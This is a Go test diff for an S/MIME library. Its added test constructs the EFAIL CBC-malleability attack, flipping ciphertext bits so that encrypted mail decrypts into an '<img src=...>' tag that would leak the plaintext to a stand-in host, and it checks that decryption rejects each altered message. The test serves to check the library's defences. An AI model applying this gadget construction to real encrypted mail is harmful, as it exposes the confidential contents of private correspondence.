@@ -3,6 +3,7 @@ package smime_test
 import (
 	"bytes"
 	"context"
+	"encoding/base64"
 	"strings"
 	"testing"
 	"time"
@@ -140,6 +141,39 @@ func TestEncrypted(t *testing.T) {
 			}
 			if row.opens && (len(got.Signatures) != 1 || got.Signatures[0].Verdict != "good" || got.Signatures[0].Covers != "all" || len(got.Deciphered) == 0) {
 				t.Errorf("got signatures %+v, deciphered %d", got.Signatures, len(got.Deciphered))
+			}
+		})
+	}
+}
+
+// TestCBCGadget is the construction of EFAIL against S/MIME: blocks whose text is
+// known are turned into markup that would carry the rest away. Wherever it is done,
+// in text that is signed inside and in text that is not, nothing changed is read.
+func TestCBCGadget(t *testing.T) {
+	a := newAuthority(t)
+	a.person("ada", ada, "rsa:2048", 365, "emailProtection")
+	a.person("team", "csirt@example.org", "rsa:2048", 365, "emailProtection")
+	keys := load(t, a, "team")
+	for name, inside := range map[string]string{"signed": a.sign("ada", letter), "opaque": a.sign("ada", letter, "-nodetach"), "not signed": letter} {
+		t.Run(name, func(t *testing.T) {
+			head, body, _ := strings.Cut(strings.ReplaceAll(a.encrypt("team", inside, "-aes-128-cbc"), "\r\n", "\n"), "\n\n")
+			cipher, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(strings.TrimSpace(body), "\n", ""))
+			if err != nil {
+				t.Fatal(err)
+			}
+			for at := len(cipher) - len(inside); at+32 < len(cipher); at += 32 {
+				gadget := bytes.Clone(cipher)
+				for i, c := range []byte("<img src='//e/?") {
+					gadget[at+i] ^= c ^ inside[i]
+				}
+				raw := head + "\r\n\r\n" + base64.StdEncoding.EncodeToString(gadget) + "\r\n"
+				got, text := open(t, keys, mailOf(ada, raw), ada)
+				if got.Decrypted && strings.Contains(text, "The host 203.0.113.9 attacks us.\nPlease look at it.\n") && !strings.Contains(text, "<img") {
+					continue // it hit the header around the signed part, which is as it was
+				}
+				if got.Decrypted || got.Problem == "" || strings.Contains(text, "attacks us") || len(got.Signatures) != 0 {
+					t.Fatalf("byte %d: got %+v and text %q", at, got, text)
+				}
 			}
 		})
 	}
